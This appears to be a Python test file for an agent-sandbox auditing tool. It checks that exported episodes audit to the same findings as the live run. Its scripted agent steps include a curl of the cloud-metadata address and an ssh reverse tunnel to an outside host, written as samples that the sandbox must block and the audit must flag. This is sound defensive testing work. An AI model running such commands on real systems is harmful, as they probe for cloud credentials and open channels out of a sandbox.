"""An episode corral recorded, exported (`corral export`, ATIF and OpenAI), audits to the findings
the live run gave, at the same steps, its recorded events included; the script the agent wrote
and ran is caught statically too, on both steps. The episode runs in a real sandbox; its one
network attempt is the cloud-metadata address, which the sandbox's gateway refuses."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from typer.testing import CliRunner

from corral.cli.main import app
from corral.rl import SandboxEnv
from corral.store.sqlite import EventStore

STEPS = [
    "echo hello",
    "cat > fetch.sh <<'EOF'\ncurl -s -m 3 http://169.254.169.254/latest/meta-data/ || true\nEOF",
    "bash fetch.sh",
    "ssh -R 8080:localhost:22 agent@203.0.113.7",
]


def _audit(cli_path: Path, tmp_path: Path) -> dict[str, Any]:
    out = tmp_path / f"{cli_path.stem}.audit.jsonl"
    res = CliRunner().invoke(app, ["audit", str(cli_path), "--json", str(out)])
    assert res.exit_code == 0, res.output
    (row,) = [json.loads(x) for x in out.read_text().splitlines()]
    return row


def test_exported_episode_audits_to_the_live_findings(store: EventStore, tmp_path: Path) -> None:
    env = SandboxEnv({"instruction": "look around", "max_steps": 8}, store=store)
    env.reset(options={"episode_id": "ep-round-trip"})
    for action in STEPS:
        env.step(action)
    live: dict[int, set[str]] = {}
    for e in store.query(episode_id="ep-round-trip"):
        if e.step is not None and e.severity != "info":
            live.setdefault(e.step, set()).add(e.rule)
    assert live.get(4), live  # the gate blocked the tunnel
    exports = {}
    for fmt, name in (("atif", "trajectory.json"), ("openai", "episode.jsonl")):
        path = tmp_path / name
        res = CliRunner().invoke(app, ["export", "--episode", "ep-round-trip", "--format", fmt,
                                       "--out", str(path)])  # fmt: skip
        assert res.exit_code == 0, res.output
        exports[fmt] = _audit(path, tmp_path)
    # where live step N sits in each format's main list
    index = {"atif": lambda n: n, "openai": lambda n: 2 * n - 1}
    for fmt, row in exports.items():
        assert row["verdict"] == "deny", row
        found: dict[int, set[str]] = {}
        for f in row["findings"]:
            found.setdefault(f["step"], set()).add(f["rule"])
        for step, rules in live.items():
            assert rules <= found.get(index[fmt](step), set()), (fmt, step, rules, found)
        ran = {f["step"] for f in row["findings"] if f.get("via") and f["category"] == "metadata"}
        assert ran == {index[fmt](2), index[fmt](3)}, (fmt, row["findings"])
        flagged = {f["step"] for f in row["findings"]}
        assert index[fmt](1) not in flagged  # `echo hello` stays clean
